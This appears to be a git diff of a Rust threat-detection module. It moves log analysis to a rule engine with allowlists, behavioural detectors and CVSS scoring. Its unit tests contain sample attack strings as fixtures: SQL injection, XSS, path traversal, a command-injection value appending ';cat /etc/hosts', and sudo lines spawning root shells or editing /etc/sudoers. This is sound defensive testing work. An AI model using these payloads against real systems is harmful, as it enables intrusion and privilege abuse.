@@ -1,214 +1,479 @@
-// Basic threat detection using regex patterns
+// Basic threat detection using the data-driven rule engine
 // Fast, synchronous analysis without AI
 
-use security_common::{LogEntry, ThreatCVSS};
-use std::collections::HashMap;
+pub mod auth;
+pub mod corpus;
+pub mod discovery;
+pub mod exfil;
+pub mod privilege;
+pub mod rate;
+pub mod scan;
+pub mod webshell;
+mod stats;
+#[cfg(test)]
+mod test_support;
+
+use security_common::cvss::{Severity, ThreatType, Vulnerability};
+use security_common::feedback::{self, Adjustments};
+use security_common::parsers::ApacheLog;
+use security_common::rules::allowlist::{self, Allowlist, Subject, SuppressionReport, HIGH_RISK_RULE};
+use security_common::rules::{self, Detection, RuleScope, RuleSet};
+use security_common::sessions::{self, WebSession};
+use security_common::{
+    AuthAttack, ContentDiscovery, Exfiltration, Finding, LogEntry, Login, PortScan, RateAnomaly, ThreatCVSS,
+};
+use std::collections::{BTreeMap, BTreeSet, HashMap};
 
 /// Detect threats in parsed log entries
-pub struct BasicAnalyzer;
+pub struct BasicAnalyzer {
+    rules: RuleSet,
+    allowlist: Allowlist,
+    adjustments: Adjustments,
+}
 
 impl BasicAnalyzer {
+    /// Analyzer using the process-wide rule set (default pack plus any
+    /// installed rule files), allowlist and analyst feedback
     pub fn new() -> Self {
-        Self
+        Self::with_rules(rules::active().clone())
+            .with_allowlist(allowlist::active().clone())
+            .with_feedback(feedback::adjustments())
+    }
+
+    /// Analyzer with the given rules, no allowlist and no feedback
+    pub fn with_rules(rules: RuleSet) -> Self {
+        Self { rules, allowlist: Allowlist::default(), adjustments: Adjustments::default() }
+    }
+
+    /// Suppress what the allowlist names; suppressions are counted in
+    /// `BasicAnalysisResult::suppressed`
+    pub fn with_allowlist(mut self, allowlist: Allowlist) -> Self {
+        self.allowlist = allowlist;
+        self
+    }
+
+    /// Lower the severity of findings from rules analysts keep marking as
+    /// false positives
+    pub fn with_feedback(mut self, adjustments: Adjustments) -> Self {
+        self.adjustments = adjustments;
+        self
+    }
+
+    /// Whether the allowlist suppresses `rule_id` for the subject, counting
+    /// it against the allowlist entry that does
+    fn allowlisted(&self, subject: Subject, rule_id: &str, suppressed: &mut SuppressionReport) -> bool {
+        match self.allowlist.suppressing(&subject, &[rule_id]) {
+            Some(name) => {
+                suppressed.record(name);
+                true
+            }
+            None => false,
+        }
     }
 
     /// Analyze log entries and return threat statistics
     pub fn analyze(&self, entries: &[LogEntry]) -> BasicAnalysisResult {
-        let mut failed_logins = 0;
-        let mut root_attempts = 0;
-        let mut suspicious_file_access = 0;
-        let mut critical_alerts = 0;
-        let mut sql_injection_attempts = 0;
-        let mut port_scanning_attempts = 0;
-        let mut malware_detections = 0;
-        let mut ip_frequency: HashMap<String, usize> = HashMap::new();
-
-        for entry in entries {
+        self.analyze_lines(entries, &[])
+    }
+
+    /// `analyze` with the source line number of each entry (parallel to
+    /// `entries`), so findings point back into the log file
+    pub fn analyze_lines(&self, entries: &[LogEntry], line_numbers: &[usize]) -> BasicAnalysisResult {
+        let mut result = BasicAnalysisResult::default();
+        let mut failed_logins = Vec::new();
+        let mut successful_logins = Vec::new();
+        let finding = |index: usize, threat: ThreatType, detection: Detection| {
+            let entry = &entries[index];
+            Finding {
+                rule_id: detection.rule_id,
+                threat_type: threat,
+                severity: detection.severity,
+                field: detection.field,
+                matched: detection.matched,
+                entry_index: index,
+                line_number: line_numbers.get(index).copied().unwrap_or(index + 1),
+                ip_address: entry.ip_address.clone(),
+                username: entry.username.clone(),
+                message: entry.message.chars().take(200).collect(),
+                downgraded_from: None,
+                vulnerability: detection.vulnerability,
+            }
+        };
+
+        for (index, entry) in entries.iter().enumerate() {
             // Track IP addresses
             if let Some(ip) = &entry.ip_address {
-                ip_frequency.entry(ip.clone())
+                result.ip_frequency.entry(ip.clone())
                     .and_modify(|count| *count += 1)
                     .or_insert(1);
+                if let Some(size) = entry.fields.get("http.size").and_then(|s| s.parse::<u64>().ok()) {
+                    *result.ip_bytes.entry(ip.clone()).or_insert(0) += size;
+                }
             }
 
-            // Detect failed logins across common auth formats:
-            // - Apache/app logs:   "Failed login"
-            // - sshd/auth.log:     "Failed password", "authentication failure", "Invalid user"
-            // - Windows events:    "an account failed to log on", audit failure 4625
-            let login_msg = entry.message.to_lowercase();
-            if login_msg.contains("failed login")
-                || login_msg.contains("failed password")
-                || login_msg.contains("authentication failure")
-                || login_msg.contains("invalid user")
-                || login_msg.contains("failed to log on")
-                || login_msg.contains("login failed")
-            {
-                failed_logins += 1;
+            // Web requests also get the label ApacheLog::analyze would give them
+            let mut detections = self.rules.detect_all(RuleScope::Log, entry);
+            if entry.fields.contains_key("http.path") {
+                detections.extend(self.rules.first_match(RuleScope::Http, entry));
             }
-
-            // Detect root access attempts
-            if entry.message.contains("user: root") || 
-               entry.message.contains("root access") ||
-               entry.message.contains("Root access") {
-                root_attempts += 1;
+            // A CVE signature names the exploit; let it take the threat type's
+            // finding ahead of the generic rule
+            detections.sort_by_key(|d| d.vulnerability.is_none());
+
+            // One finding per threat type and entry, however many rules hit;
+            // a suppressed threat is handled too, so no other rule reports it
+            let mut threats: Vec<ThreatType> = Vec::new();
+            let mut handled: Vec<ThreatType> = Vec::new();
+            for detection in detections {
+                if detection.rule_id == auth::SUCCESSFUL_LOGIN_RULE {
+                    successful_logins.push(index);
+                }
+                *result.rule_hits.entry(detection.rule_id.clone()).or_insert(0) += 1;
+                if let Some(threat) = detection.threat_type.clone()
+                    && !handled.contains(&threat)
+                {
+                    handled.push(threat.clone());
+                    if self.allowlisted(Subject::of(entry), &detection.rule_id, &mut result.suppressed) {
+                        result.suppressed.findings += 1;
+                        continue;
+                    }
+                    threats.push(threat.clone());
+                    result.findings.push(finding(index, threat, detection));
+                }
             }
 
-            // Detect suspicious file access
-            if entry.message.contains("/etc/passwd") || 
-               entry.message.contains("/etc/shadow") ||
-               entry.message.contains("Suspicious file") {
-                suspicious_file_access += 1;
+            if threats.contains(&ThreatType::FailedLogin) {
+                failed_logins.push(index);
             }
+        }
 
-            // Detect critical alerts
-            if entry.level == "CRITICAL" {
-                critical_alerts += 1;
+        // Each classified campaign and each probable compromise is one
+        // finding, on the entry that completed it
+        let attacks = auth::classify(entries, &failed_logins)
+            .into_iter()
+            .chain(auth::correlate_compromises(entries, &failed_logins, &successful_logins));
+        for (threat, attack, index) in attacks {
+            let (field, matched) = match attack.accounts.first() {
+                Some(account) => ("username", account.clone()),
+                None => ("ip", attack.source_ips.first().cloned().unwrap_or_default()),
+            };
+            let detection = behavioral(format!("auth.{}", threat.as_str()), &threat, field, matched);
+            if self.allowlisted(Subject::of(&entries[index]), &detection.rule_id, &mut result.suppressed) {
+                result.suppressed.reports += 1;
+                continue;
             }
-
-            let message_lower = entry.message.to_lowercase();
-
-            // Detect SQL injection: require actual injection markers, not just
-            // the word "SELECT" (which appears in legitimate query logs).
-            if message_lower.contains("union select") ||
-               message_lower.contains("drop table") ||
-               message_lower.contains("'; drop") ||
-               message_lower.contains("or 1=1") ||
-               message_lower.contains("' or '1'='1") ||
-               message_lower.contains("sql injection") {
-                sql_injection_attempts += 1;
+            result.findings.push(finding(index, threat, detection));
+            result.auth_attacks.push(attack);
+        }
+        result.logins = auth::logins(entries, &successful_logins, line_numbers);
+
+        // Behavioral scans from firewall records add to the keyword matches
+        for (scan, index) in scan::detect(entries) {
+            let detection = behavioral(format!("scan.{}", scan.kind), &ThreatType::PortScanning, "ip", scan.source_ip.clone());
+            if self.allowlisted(Subject::of(&entries[index]), &detection.rule_id, &mut result.suppressed) {
+                result.suppressed.reports += 1;
+                continue;
             }
+            result.findings.push(finding(index, ThreatType::PortScanning, detection));
+            result.port_scans.push(scan);
+        }
 
-            // Detect port scanning
-            if message_lower.contains("port scan") ||
-               message_lower.contains("nmap") {
-                port_scanning_attempts += 1;
+        // Content discovery runs, with each exposed sensitive path as a
+        // finding of its own on the request that exposed it
+        for run in discovery::detect(entries) {
+            let detection = behavioral(
+                "discovery.forced_browsing".to_string(),
+                &ThreatType::ForcedBrowsing,
+                "ip",
+                run.report.source_ip.clone(),
+            );
+            let run_suppressed =
+                self.allowlisted(Subject::of(&entries[run.last_index]), &detection.rule_id, &mut result.suppressed);
+            if run_suppressed {
+                result.suppressed.reports += 1;
+            } else {
+                result.findings.push(finding(run.last_index, ThreatType::ForcedBrowsing, detection));
+            }
+            // Exposures are checked on their own: allowlisting the scanner
+            // does not hide what it found
+            for index in run.exposures {
+                let path = entries[index].fields.get("http.path").cloned().unwrap_or_default();
+                let detection = behavioral(
+                    "discovery.exposure".to_string(),
+                    &ThreatType::SensitiveFileExposure,
+                    "http.path",
+                    path,
+                );
+                if self.allowlisted(Subject::of(&entries[index]), &detection.rule_id, &mut result.suppressed) {
+                    result.suppressed.findings += 1;
+                    continue;
+                }
+                result.findings.push(finding(index, ThreatType::SensitiveFileExposure, detection));
             }
+            if !run_suppressed {
+                result.content_discovery.push(run.report);
+            }
+        }
 
-            // Detect malware (avoid matching benign strings like "antivirus")
-            if message_lower.contains("malware") ||
-               message_lower.contains("trojan") ||
-               message_lower.contains("ransomware") ||
-               (message_lower.contains("virus") && !message_lower.contains("antivirus")) {
-                malware_detections += 1;
+        // Scripts only one client keeps using successfully
+        for script in webshell::detect(entries) {
+            let detection = behavioral("webshell.rare_script".to_string(), &ThreatType::Webshell, "http.path", script.script);
+            if self.allowlisted(Subject::of(&entries[script.last_index]), &detection.rule_id, &mut result.suppressed) {
+                result.suppressed.findings += 1;
+                continue;
             }
+            result.findings.push(finding(script.last_index, ThreatType::Webshell, detection));
         }
 
-        BasicAnalysisResult {
-            failed_logins,
-            root_attempts,
-            suspicious_file_access,
-            critical_alerts,
-            sql_injection_attempts,
-            port_scanning_attempts,
-            malware_detections,
-            ip_frequency,
+        // Accounts using sudo, su or pkexec for the first time
+        for escalation in privilege::detect(entries) {
+            let detection = behavioral(
+                "privilege.first_escalation".to_string(),
+                &ThreatType::PrivilegeEscalation,
+                "username",
+                escalation.user,
+            );
+            if self.allowlisted(Subject::of(&entries[escalation.index]), &detection.rule_id, &mut result.suppressed) {
+                result.suppressed.findings += 1;
+                continue;
+            }
+            result.findings.push(finding(escalation.index, ThreatType::PrivilegeEscalation, detection));
         }
-    }
 
-    /// Generate CVSS scores for detected threats
-    pub fn generate_cvss_scores(&self, result: &BasicAnalysisResult) -> Vec<ThreatCVSS> {
-        use security_common::cvss::ThreatType;
-        
-        let mut cvss_scores = Vec::new();
-
-        if result.sql_injection_attempts > 0 {
-            let cvss = ThreatType::SQLInjection.cvss_score();
-            cvss_scores.push(ThreatCVSS {
-                threat_type: "SQL Injection".to_string(),
-                count: result.sql_injection_attempts,
-                cvss_score: cvss.base_score,
-                severity: cvss.severity.as_str().to_string(),
-                vector_string: cvss.vector_string.clone(),
-                explanation: cvss.explanation.clone(),
-            });
+        // Response sizes: large downloads, outsized responses, archives
+        let sql_injections: Vec<usize> = result
+            .findings
+            .iter()
+            .filter(|f| f.threat_type == ThreatType::SQLInjection)
+            .map(|f| f.entry_index)
+            .collect();
+        for (exfiltration, index) in exfil::detect(entries, &sql_injections) {
+            let detection = behavioral(
+                format!("exfil.{}", exfiltration.kind),
+                &ThreatType::DataExfiltration,
+                "ip",
+                exfiltration.source_ip.clone(),
+            );
+            if self.allowlisted(Subject::of(&entries[index]), &detection.rule_id, &mut result.suppressed) {
+                result.suppressed.reports += 1;
+                continue;
+            }
+            result.findings.push(finding(index, ThreatType::DataExfiltration, detection));
+            result.exfiltration.push(exfiltration);
         }
 
-        if result.failed_logins > 0 {
-            let cvss = ThreatType::FailedLogin.cvss_score();
-            cvss_scores.push(ThreatCVSS {
-                threat_type: "Failed Login".to_string(),
-                count: result.failed_logins,
-                cvss_score: cvss.base_score,
-                severity: cvss.severity.as_str().to_string(),
-                vector_string: cvss.vector_string.clone(),
-                explanation: cvss.explanation.clone(),
-            });
+        // Volume is judged against the log's own baseline, not a fixed count
+        for anomaly in rate::detect(entries) {
+            let subject = match anomaly.scope.as_str() {
+                "ip" => Subject::ip(&anomaly.subject),
+                _ => Subject { path: Some(&anomaly.subject), ..Default::default() },
+            };
+            if self.allowlisted(subject, &format!("rate.{}", anomaly.kind), &mut result.suppressed) {
+                result.suppressed.reports += 1;
+                continue;
+            }
+            result.rate_anomalies.push(anomaly);
         }
 
-        if result.root_attempts > 0 {
-            let cvss = ThreatType::RootAccess.cvss_score();
-            cvss_scores.push(ThreatCVSS {
-                threat_type: "Root Access Attempt".to_string(),
-                count: result.root_attempts,
-                cvss_score: cvss.base_score,
-                severity: cvss.severity.as_str().to_string(),
-                vector_string: cvss.vector_string.clone(),
-                explanation: cvss.explanation.clone(),
-            });
+        let requests: Vec<ApacheLog> = entries.iter().filter_map(ApacheLog::from_entry).collect();
+        result.sessions = sessions::sessionize(&requests);
+
+        // Feedback lowers severities before IPs are ranked on them
+        if !self.adjustments.is_empty() {
+            for finding in &mut result.findings {
+                if self.adjustments.apply(finding) {
+                    *result.downgraded.entry(finding.rule_id.clone()).or_insert(0) += 1;
+                }
+            }
         }
 
-        if result.suspicious_file_access > 0 {
-            let cvss = ThreatType::SuspiciousFileAccess.cvss_score();
-            cvss_scores.push(ThreatCVSS {
-                threat_type: "Suspicious File Access".to_string(),
-                count: result.suspicious_file_access,
-                cvss_score: cvss.base_score,
-                severity: cvss.severity.as_str().to_string(),
-                vector_string: cvss.vector_string.clone(),
-                explanation: cvss.explanation.clone(),
-            });
+        // IPs still ranked high risk after the suppressions above, unless
+        // the allowlist exempts their source from ranking as well
+        let ips: Vec<String> = result.ip_frequency.keys().cloned().collect();
+        for ip in ips {
+            if result.is_high_risk(&ip) && self.allowlisted(Subject::ip(&ip), HIGH_RISK_RULE, &mut result.suppressed) {
+                result.suppressed.high_risk_ips += 1;
+                result.allowlisted_ips.insert(ip);
+            }
         }
+        result.suppressed.expired = self.allowlist.expired();
 
-        if result.port_scanning_attempts > 0 {
-            let cvss = ThreatType::PortScanning.cvss_score();
-            cvss_scores.push(ThreatCVSS {
-                threat_type: "Port Scanning".to_string(),
-                count: result.port_scanning_attempts,
-                cvss_score: cvss.base_score,
-                severity: cvss.severity.as_str().to_string(),
-                vector_string: cvss.vector_string.clone(),
-                explanation: cvss.explanation.clone(),
-            });
+        // Counters are a summary of the findings
+        let threats: Vec<ThreatType> = result.findings.iter().map(|f| f.threat_type.clone()).collect();
+        for threat in threats {
+            result.record(threat);
         }
 
-        if result.malware_detections > 0 {
-            let cvss = ThreatType::Malware.cvss_score();
-            cvss_scores.push(ThreatCVSS {
-                threat_type: "Malware".to_string(),
-                count: result.malware_detections,
-                cvss_score: cvss.base_score,
-                severity: cvss.severity.as_str().to_string(),
-                vector_string: cvss.vector_string.clone(),
-                explanation: cvss.explanation.clone(),
-            });
+        result
+    }
+
+    /// Generate CVSS scores for detected threats. Findings of exploit
+    /// signatures are scored per CVE with the CVE's own vector, and the rest
+    /// per threat type.
+    pub fn generate_cvss_scores(&self, result: &BasicAnalysisResult) -> Vec<ThreatCVSS> {
+        let mut exploits: BTreeMap<&str, (&Vulnerability, usize)> = BTreeMap::new();
+        let mut exploited: HashMap<&ThreatType, usize> = HashMap::new();
+        for finding in &result.findings {
+            if let Some(vulnerability) = &finding.vulnerability {
+                exploits.entry(vulnerability.cve.as_str()).or_insert((vulnerability, 0)).1 += 1;
+                *exploited.entry(&finding.threat_type).or_insert(0) += 1;
+            }
         }
 
-        if result.critical_alerts > 0 {
-            let cvss = ThreatType::CriticalAlert.cvss_score();
-            cvss_scores.push(ThreatCVSS {
-                threat_type: "Critical Alert".to_string(),
-                count: result.critical_alerts,
+        let by_threat = result.threat_counts().into_iter().filter_map(|(threat, count)| {
+            let count = count - exploited.get(&threat).copied().unwrap_or(0).min(count);
+            if count == 0 {
+                return None;
+            }
+            let cvss = threat.cvss_score();
+            Some(ThreatCVSS {
+                threat_type: threat.display_name().to_string(),
+                count,
                 cvss_score: cvss.base_score,
                 severity: cvss.severity.as_str().to_string(),
-                vector_string: cvss.vector_string.clone(),
-                explanation: cvss.explanation.clone(),
-            });
-        }
+                vector_string: cvss.vector_string,
+                explanation: cvss.explanation,
+            })
+        });
+        let by_cve = exploits.into_values().map(|(vulnerability, count)| ThreatCVSS {
+            threat_type: format!("{} ({})", vulnerability.cve, vulnerability.product),
+            count,
+            cvss_score: vulnerability.cvss.base_score,
+            severity: vulnerability.cvss.severity.as_str().to_string(),
+            vector_string: vulnerability.cvss.vector_string.clone(),
+            explanation: vulnerability.cvss.explanation.clone(),
+        });
+        by_cve.chain(by_threat).collect()
+    }
+}
 
-        cvss_scores
+/// A detection made across entries rather than by a rule
+fn behavioral(rule_id: String, threat: &ThreatType, field: &str, matched: String) -> Detection {
+    Detection {
+        rule_id,
+        name: threat.display_name().to_string(),
+        threat_type: Some(threat.clone()),
+        severity: threat.cvss_score().severity,
+        field: field.to_string(),
+        matched,
+        vulnerability: None,
     }
 }
 
-/// Result of basic threat analysis
+/// Result of basic threat analysis. The counters summarize `findings`.
+#[derive(Default)]
 pub struct BasicAnalysisResult {
     pub failed_logins: usize,
     pub root_attempts: usize,
     pub suspicious_file_access: usize,
     pub critical_alerts: usize,
     pub sql_injection_attempts: usize,
+    pub xss_attempts: usize,
+    pub path_traversal_attempts: usize,
+    pub command_injection_attempts: usize,
+    pub scanner_detections: usize,
+    pub unauthorized_access_attempts: usize,
     pub port_scanning_attempts: usize,
     pub malware_detections: usize,
+    /// Counts for threat types raised by custom rules that have no dedicated counter
+    pub other_threats: Vec<(ThreatType, usize)>,
+    /// Every detected threat, in entry order for rule matches followed by
+    /// authentication attacks and port scans
+    pub findings: Vec<Finding>,
+    /// Number of entries each rule matched, by rule id
+    pub rule_hits: BTreeMap<String, usize>,
+    /// Failed-login campaigns classified as brute force, spraying or stuffing,
+    /// then probable compromises (success after failures)
+    pub auth_attacks: Vec<AuthAttack>,
+    /// Vertical and horizontal port scans found in firewall records
+    pub port_scans: Vec<PortScan>,
+    /// Per-IP request bursts and floods and per-endpoint 5xx spikes
+    pub rate_anomalies: Vec<RateAnomaly>,
+    /// Content discovery runs per client, with the sensitive paths exposed
+    pub content_discovery: Vec<ContentDiscovery>,
+    /// Large downloads, outsized responses and archive downloads per client
+    pub exfiltration: Vec<Exfiltration>,
+    /// Web requests grouped per visitor (IP and user agent)
+    pub sessions: Vec<WebSession>,
+    /// Successful logins naming an account and a source IP
+    pub logins: Vec<Login>,
     pub ip_frequency: HashMap<String, usize>,
+    /// Response bytes served per IP
+    pub ip_bytes: HashMap<String, u64>,
+    /// What the allowlist suppressed
+    pub suppressed: SuppressionReport,
+    /// IPs the allowlist exempts from high-risk ranking
+    pub allowlisted_ips: BTreeSet<String>,
+    /// Findings lowered in severity by analyst feedback, per rule
+    pub downgraded: BTreeMap<String, usize>,
+}
+
+impl BasicAnalysisResult {
+    /// An IP is high risk when its request rate is anomalous or it is the
+    /// source of a high or critical severity finding, and the allowlist does
+    /// not exempt it
+    pub fn is_high_risk(&self, ip: &str) -> bool {
+        if self.allowlisted_ips.contains(ip) {
+            return false;
+        }
+        self.rate_anomalies.iter().any(|a| a.scope == "ip" && a.subject == ip)
+            || self.findings.iter().any(|f| {
+                f.ip_address.as_deref() == Some(ip) && matches!(f.severity, Severity::High | Severity::Critical)
+            })
+    }
+
+    fn record(&mut self, threat: ThreatType) {
+        let counter = match threat {
+            ThreatType::FailedLogin => &mut self.failed_logins,
+            ThreatType::RootAccess => &mut self.root_attempts,
+            ThreatType::SuspiciousFileAccess => &mut self.suspicious_file_access,
+            ThreatType::CriticalAlert => &mut self.critical_alerts,
+            ThreatType::SQLInjection => &mut self.sql_injection_attempts,
+            ThreatType::XSS => &mut self.xss_attempts,
+            ThreatType::PathTraversal => &mut self.path_traversal_attempts,
+            ThreatType::CommandInjection => &mut self.command_injection_attempts,
+            ThreatType::Scanner => &mut self.scanner_detections,
+            ThreatType::UnauthorizedAccess => &mut self.unauthorized_access_attempts,
+            ThreatType::PortScanning => &mut self.port_scanning_attempts,
+            ThreatType::Malware => &mut self.malware_detections,
+            other => match self.other_threats.iter_mut().find(|(t, _)| *t == other) {
+                Some((_, count)) => count,
+                None => {
+                    self.other_threats.push((other, 1));
+                    return;
+                }
+            },
+        };
+        *counter += 1;
+    }
+
+    /// Non-zero threat counts, in report order
+    pub fn threat_counts(&self) -> Vec<(ThreatType, usize)> {
+        let fixed = [
+            (ThreatType::SQLInjection, self.sql_injection_attempts),
+            (ThreatType::XSS, self.xss_attempts),
+            (ThreatType::PathTraversal, self.path_traversal_attempts),
+            (ThreatType::CommandInjection, self.command_injection_attempts),
+            (ThreatType::FailedLogin, self.failed_logins),
+            (ThreatType::RootAccess, self.root_attempts),
+            (ThreatType::SuspiciousFileAccess, self.suspicious_file_access),
+            (ThreatType::PortScanning, self.port_scanning_attempts),
+            (ThreatType::Scanner, self.scanner_detections),
+            (ThreatType::UnauthorizedAccess, self.unauthorized_access_attempts),
+            (ThreatType::Malware, self.malware_detections),
+            (ThreatType::CriticalAlert, self.critical_alerts),
+        ];
+        fixed
+            .into_iter()
+            .chain(self.other_threats.iter().cloned())
+            .filter(|(_, count)| *count > 0)
+            .collect()
+    }
+
+    /// Total threat instances across all types
+    pub fn total_threats(&self) -> usize {
+        self.threat_counts().iter().map(|(_, count)| count).sum()
+    }
 }
 
 impl Default for BasicAnalyzer {
@@ -220,6 +485,7 @@ impl Default for BasicAnalyzer {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::test_support::{get, request};
 
     fn entry(level: &str, message: &str) -> LogEntry {
         LogEntry {
@@ -228,6 +494,7 @@ mod tests {
             ip_address: Some("10.0.0.1".to_string()),
             username: None,
             message: message.to_string(),
+            fields: Default::default(),
         }
     }
 
@@ -272,4 +539,291 @@ mod tests {
         // "Failed password for invalid user" matches two patterns but counts once per entry.
         assert_eq!(result.failed_logins, 4);
     }
+
+    #[test]
+    fn failed_login_rule_hits_once_per_entry() {
+        let entries = vec![
+            entry("ERROR", "Failed login for admin from 10.0.0.1"),
+            entry("INFO", "Failed password for invalid user root from 203.0.113.5 port 22 ssh2"),
+            entry("INFO", "pam_unix(sshd:auth): authentication failure; rhost=203.0.113.9"),
+            entry("INFO", "An account failed to log on. Account Name: bob"),
+        ];
+        let result = BasicAnalyzer::new().analyze(&entries);
+        assert_eq!(result.rule_hits.get("log.failed_login"), Some(&4));
+    }
+
+    #[test]
+    fn findings_locate_each_threat() {
+        let entries = vec![
+            entry("INFO", "GET /index.html"),
+            entry("INFO", "GET /api?id=1 UNION SELECT password FROM users"),
+        ];
+        let result = BasicAnalyzer::new().analyze_lines(&entries, &[3, 7]);
+        assert_eq!(result.findings.len(), 1);
+        let finding = &result.findings[0];
+        assert_eq!(finding.rule_id, "log.sql_injection");
+        assert_eq!(finding.threat_type, ThreatType::SQLInjection);
+        assert_eq!(finding.field, "message");
+        assert_eq!(finding.matched.to_lowercase(), "union select");
+        assert_eq!((finding.entry_index, finding.line_number), (1, 7));
+        assert_eq!(finding.ip_address.as_deref(), Some("10.0.0.1"));
+        assert_eq!(result.sql_injection_attempts, 1);
+    }
+
+    #[test]
+    fn sudo_shells_account_edits_and_refusals() {
+        let lines = [
+            "web01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
+            "web01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/vim -c :!/bin/sh",
+            "web01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers",
+            "web01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/sudoers",
+            "web01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
+            "web01 sudo: mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
+            "web01 sudo: mallory : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
+        ];
+        let entries: Vec<LogEntry> = lines
+            .iter()
+            .map(|line| {
+                let mut entry = entry("INFO", line);
+                security_common::parsers::privilege::enrich(&mut entry);
+                entry
+            })
+            .collect();
+        let result = BasicAnalyzer::new().analyze(&entries);
+        let rules: Vec<(&str, usize)> = result.findings.iter().map(|f| (f.rule_id.as_str(), f.entry_index)).collect();
+        assert_eq!(
+            rules,
+            vec![
+                ("log.privileged_shell", 0),
+                ("log.privileged_shell", 1),
+                ("log.privileged_account_edit", 2),
+                ("log.privilege_denied", 5),
+                ("log.failed_login", 6),
+            ]
+        );
+        assert_eq!(entries[5].username.as_deref(), Some("mallory"));
+    }
+
+    #[test]
+    fn success_after_failures_raises_compromise() {
+        let mut entries: Vec<LogEntry> = (0..3)
+            .map(|_| entry("WARN", "An account failed to log on. Account Name: bob"))
+            .collect();
+        entries.push(entry("INFO", "EventID=4624 An account was successfully logged on. Account Name: bob"));
+        let result = BasicAnalyzer::new().analyze(&entries);
+        assert_eq!(result.rule_hits.get("log.successful_login"), Some(&1));
+        assert_eq!(result.other_threats, vec![(ThreatType::AccountCompromise, 1)]);
+        assert_eq!(result.auth_attacks[0].accounts, vec!["bob"]);
+        assert_eq!(result.logins.len(), 1);
+        assert_eq!((result.logins[0].account.as_str(), result.logins[0].ip.as_str()), ("bob", "10.0.0.1"));
+        assert_eq!(result.logins[0].line_number, 4);
+    }
+
+    #[test]
+    fn web_attacks_are_counted_per_class() {
+        let web = |path: &str, status: u16, agent: &str| {
+            request(0, "10.0.0.1", "GET", path, status, &[("http.user_agent", agent)])
+        };
+        let entries = vec![
+            web("/search?q=<script>alert(1)</script>", 200, "Mozilla/5.0"),
+            web("/download?file=../../etc/hosts", 200, "Mozilla/5.0"),
+            web("/ping?host=127.0.0.1;cat%20/etc/hosts", 200, "Mozilla/5.0"),
+            web("/admin", 403, "Mozilla/5.0"),
+            web("/", 200, "sqlmap/1.7"),
+            web("/about", 200, "Mozilla/5.0"),
+        ];
+        let analyzer = BasicAnalyzer::new();
+        let result = analyzer.analyze(&entries);
+        assert_eq!(result.xss_attempts, 1);
+        assert_eq!(result.path_traversal_attempts, 1);
+        assert_eq!(result.command_injection_attempts, 1);
+        assert_eq!(result.unauthorized_access_attempts, 1);
+        assert_eq!(result.scanner_detections, 1);
+        assert_eq!(result.total_threats(), 5);
+        let names: Vec<String> = analyzer.generate_cvss_scores(&result).into_iter().map(|s| s.threat_type).collect();
+        assert!(names.contains(&"Path Traversal".to_string()));
+        assert!(names.contains(&"Security Scanner".to_string()));
+    }
+
+    #[test]
+    fn allowlist_suppresses_and_counts() {
+        let allowlist = Allowlist::from_toml_str(
+            r#"
+            [[allow]]
+            name = "internal scanner"
+            justification = "Weekly sqlmap run against staging"
+            user_agents = ["sqlmap"]
+            rule_ids = ["http.scanner"]
+
+            [[allow]]
+            name = "office NAT"
+            cidrs = ["10.0.0.0/8"]
+            rule_ids = ["high_risk_ip"]
+
+            [[allow]]
+            name = "old pentest"
+            cidrs = ["10.0.0.0/8"]
+            expires = 2025-01-31
+            "#,
+        )
+        .unwrap()
+        .as_of(chrono::NaiveDate::from_ymd_opt(2025, 12, 15).unwrap());
+        let entries = vec![
+            request(0, "10.0.0.1", "GET", "/", 200, &[("http.user_agent", "sqlmap/1.7")]),
+            request(1, "10.0.0.1", "GET", "/download?file=../../etc/hosts", 200, &[("http.user_agent", "Mozilla/5.0")]),
+        ];
+
+        let result = BasicAnalyzer::with_rules(RuleSet::default_pack()).with_allowlist(allowlist).analyze(&entries);
+        assert_eq!(result.scanner_detections, 0);
+        assert_eq!(result.path_traversal_attempts, 1);
+        assert!(!result.is_high_risk("10.0.0.1"));
+        let suppressed = &result.suppressed;
+        assert_eq!((suppressed.findings, suppressed.high_risk_ips, suppressed.total()), (1, 1, 2));
+        assert_eq!(suppressed.by_entry.get("internal scanner"), Some(&1));
+        assert_eq!(suppressed.by_entry.get("office NAT"), Some(&1));
+        assert_eq!(suppressed.expired, vec!["old pentest"]);
+    }
+
+    #[test]
+    fn suppressed_threat_is_not_reported_by_another_rule() {
+        let allowlist = Allowlist::from_toml_str(
+            r#"
+            [[allow]]
+            name = "query fuzzing"
+            justification = "Staging fuzzer"
+            rule_ids = ["log.sql_injection"]
+            "#,
+        )
+        .unwrap();
+        // Matches both log.sql_injection and http.sql_injection
+        let entries = vec![get(0, "10.0.0.1", "/api?id=1 UNION SELECT password FROM users", 200)];
+        let result = BasicAnalyzer::with_rules(RuleSet::default_pack()).with_allowlist(allowlist).analyze(&entries);
+        assert_eq!(result.rule_hits.get("http.sql_injection"), Some(&1));
+        assert_eq!(result.sql_injection_attempts, 0);
+        assert_eq!((result.suppressed.findings, result.suppressed.total()), (1, 1));
+    }
+
+    #[test]
+    fn allowlisted_discovery_run_keeps_its_exposures() {
+        let allowlist = Allowlist::from_toml_str(
+            r#"
+            [[allow]]
+            name = "content scanner"
+            justification = "Nightly dirbuster run"
+            cidrs = ["203.0.113.5/32"]
+            rule_ids = ["discovery.forced_browsing"]
+            "#,
+        )
+        .unwrap();
+        let agent = [("http.user_agent", "Mozilla/5.0")];
+        let mut entries: Vec<LogEntry> =
+            (0..200).map(|i| request(i / 4, "203.0.113.5", "GET", &format!("/dir{}", i), 404, &agent)).collect();
+        entries.push(request(50, "203.0.113.5", "GET", "/.git/config", 200, &agent));
+
+        let result = BasicAnalyzer::with_rules(RuleSet::default_pack()).with_allowlist(allowlist).analyze(&entries);
+        assert!(result.content_discovery.is_empty());
+        let rules: Vec<&str> = result.findings.iter().map(|f| f.rule_id.as_str()).collect();
